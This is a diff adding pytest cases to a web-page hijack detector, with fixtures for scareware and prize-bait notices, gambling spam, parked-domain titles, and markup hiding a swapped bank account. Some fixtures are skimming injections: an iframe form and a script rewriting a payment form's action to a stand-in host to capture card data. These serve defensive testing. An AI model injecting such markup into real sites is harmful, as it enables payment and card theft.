@@ -487,6 +487,64 @@ def test_a_false_bot_check_that_asks_for_commands_is_a_hijack() -> None:
     assert outcome(trick) == ("hijack_suspect", "fake_check")
 
 
+SCARES = [
+    ("Security warning", "Your computer has been infected. Call the support line at once."),
+    ("Congratulations", "You have won a phone. Claim your prize."),
+    ("Внимание", "Ваш компьютер заражён."),
+]
+
+
+@pytest.mark.parametrize(("title", "text"), SCARES)
+@pytest.mark.parametrize("status", [200, 403, 404])
+def test_a_page_that_frightens_or_baits_is_a_hijack_at_any_status(title: str, text: str, status: int) -> None:
+    assert outcome(seen(notice(title, text), status)) == ("hijack_suspect", "scare_page")
+
+
+DISGUISED = [
+    "<button onclick=\"navigator.clipboard.writeText('{}')\">Copy</button>",
+    "<p>№{}։</p>",
+    "<noscript>{}</noscript>",
+    '<meta name="description" content="{}">',
+]
+
+
+@pytest.mark.parametrize("markup", DISGUISED)
+def test_an_account_hides_in_no_corner(markup: str) -> None:
+    assert outcome(page(extra=markup.format(OTHER_IBAN))) == SWAPPED
+
+
+HIDDEN_FORMS = [
+    "<noscript><!--</noscript>{}<!-- -->",
+    "<iframe src=\"data:text/html,<form action='https://unknownpay.test/x'><input name=card></form>\"></iframe>",
+    "<script>document.querySelector('form').setAttribute('action', 'https://unknownpay.test/x')</script>",
+    "<noscript>{}</noscript>",
+    "<!-- note --!>{}<!-- -->",
+]
+
+
+@pytest.mark.parametrize("markup", HIDDEN_FORMS)
+def test_a_form_hides_behind_no_trick_of_markup(markup: str) -> None:
+    form = "<form action='https://unknownpay.test/x'><input name=card></form>"
+    assert outcome(page(extra=markup.format(form))) == SWAPPED
+
+
+@pytest.mark.parametrize(
+    "spam",
+    [
+        "澳门赌场 百家乐 老虎机 体育投注 " * 5,
+        "토토사이트 카지노사이트 바카라사이트 " * 5,
+        "สล็อต บาคาร่า คาสิโน แทงบอล " * 5,
+    ],
+)
+def test_words_are_found_in_scripts_without_spaces(spam: str) -> None:
+    assert outcome(notice(spam[:12], spam)) == ("hijack_suspect", "usurped")
+
+
+@pytest.mark.parametrize("title", ["该域名正在出售", "このドメインは販売中です", "도메인 판매"])
+def test_a_domain_for_sale_is_parked_in_scripts_without_spaces(title: str) -> None:
+    assert outcome(notice(title))[0] == "parked"
+
+
 def test_a_page_that_broke_off_may_already_show_a_danger() -> None:
     broken = seen(page(account=OTHER_IBAN), failure=Failure.BROKEN_BODY)
     assert outcome(broken) == SWAPPED
